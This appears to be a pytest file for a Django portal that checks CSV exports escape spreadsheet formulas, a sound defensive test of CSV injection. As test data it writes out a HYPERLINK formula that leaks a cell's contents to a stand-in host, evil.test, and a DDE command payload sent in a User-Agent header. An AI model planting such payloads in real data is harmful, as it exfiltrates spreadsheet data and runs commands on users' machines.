"""CSV injection: no exported cell reaches a spreadsheet as a formula (OWASP CSV injection)."""

from __future__ import annotations

import ast
import csv
import io

import pytest
from django.test import Client

from portal.csv_export import FORMULA_PREFIXES, csv_safe_cell
from tenants.actors import Actor
from tenants.audit import audit_record
from tests.test_architecture import product_modules

WRITERS = {"writer", "DictWriter"}
HYPERLINK = '=HYPERLINK("https://evil.test/?leak="&A1,"Click")'


def _rows(resp) -> list[dict[str, str]]:
    assert resp.status_code == 200, resp.content
    return list(csv.DictReader(io.StringIO(resp.content.decode())))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("report.pdf", "report.pdf"),
        ("a=b", "a=b"),
        (42, 42),
        (-1, -1),  # numbers are numbers, not text a spreadsheet parses
        (None, None),
    ],
)
def test_csv_safe_cell(value, expected):
    assert csv_safe_cell(value) == expected


def test_audit_export_neutralises_formulas_from_titles_and_headers(admin_a, api):
    # A document title lands in target_repr; a client's User-Agent header lands in user_agent.
    audit_record(
        tenant=admin_a.tenant,
        actor=Actor.system(label="@SUM(1+1)"),
        action="documents.document.deleted",
        target=("documents.document", "7", HYPERLINK),
        changes={"title": [HYPERLINK, None]},
    )
    client = api(user=admin_a.user, tenant="acme")
    created = client.post(
        "/api/v1/tokens/", {"name": "-1+1", "scopes": ["read"]}, format="json", HTTP_USER_AGENT="=cmd|' /C calc'!A0"
    )
    assert created.status_code == 201
    rows = _rows(client.get("/api/v1/audit-events/export/", {"fmt": "csv"}))
    deleted = next(r for r in rows if r["action"] == "documents.document.deleted")
    assert deleted["target_repr"] == "'" + HYPERLINK and deleted["actor_label"] == "'@SUM(1+1)"
    token_event = next(r for r in rows if r["action"] == "tenants.apitoken.created")
    assert token_event["user_agent"] == "'=cmd|' /C calc'!A0"
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    # The console download is the same function.
    browser = Client()
    browser.force_login(admin_a.user)
    page_rows = _rows(browser.get("/t/acme/audit/export.csv"))
    assert any(r["target_repr"] == "'" + HYPERLINK for r in page_rows)


def test_no_csv_writer_outside_the_safe_helper():
    """Every CSV the product writes goes through portal.csv_export (the neutralising writer)."""
    offenders = []
    for module, path in product_modules().items():
        if module == "portal.csv_export":
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            attribute = (
                isinstance(node, ast.Attribute)
                and node.attr in WRITERS
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            imported = (
                isinstance(node, ast.ImportFrom) and node.module == "csv" and {a.name for a in node.names} & WRITERS
            )
            if attribute or imported:
                offenders.append(f"{module}:{node.lineno}")
    assert not offenders, f"csv writers outside portal.csv_export: {offenders}"
